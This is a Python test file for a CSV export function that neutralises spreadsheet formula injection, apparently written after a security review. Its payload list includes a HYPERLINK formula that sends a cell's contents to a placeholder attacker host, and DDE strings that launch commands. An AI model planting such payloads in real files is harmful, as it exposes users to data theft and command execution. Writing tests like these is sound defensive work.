"""CSV files are safe to open in a spreadsheet (security review M3: formula injection).

The payloads are the review's: imported names and a unit that a spreadsheet would have run.
"""

from __future__ import annotations

import csv
import io

import pytest

from trustmirror.csvexport import csv_lines, safe_cell

REVIEW_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|x!A0",
    "@SUM(1+1)",
    "=1+1 formula/…",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", REVIEW_PAYLOADS)
def test_a_cell_a_spreadsheet_would_evaluate_is_prefixed(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", ["Ann de Vries", "ann@acme.test", "Operations/Team North", "https://x/s/abc", "", 42]
)
def test_ordinary_cells_are_left_alone(value):
    assert safe_cell(value) == str(value)


def test_none_is_an_empty_cell():
    assert safe_cell(None) == ""


def test_the_file_starts_with_a_bom_and_reads_back_with_every_cell_neutralised():
    rows = [
        [payload, "x@acme.test", "en", payload, "https://t.example/s/x"]
        for payload in REVIEW_PAYLOADS
    ]
    text = "".join(csv_lines(["name", "email", "language", "unit", "link"], rows))
    assert text.startswith("\ufeffname,email")
    read = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert read[0] == ["name", "email", "language", "unit", "link"]
    assert len(read) == 1 + len(REVIEW_PAYLOADS)
    for row, payload in zip(read[1:], REVIEW_PAYLOADS, strict=True):
        assert row[0] == row[3] == "'" + payload
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_lines_are_produced_one_at_a_time():
    lines = csv_lines(["a"], ([str(i)] for i in range(3)))
    assert next(lines) == "\ufeffa\r\n"
    assert list(lines) == ["0\r\n", "1\r\n", "2\r\n"]
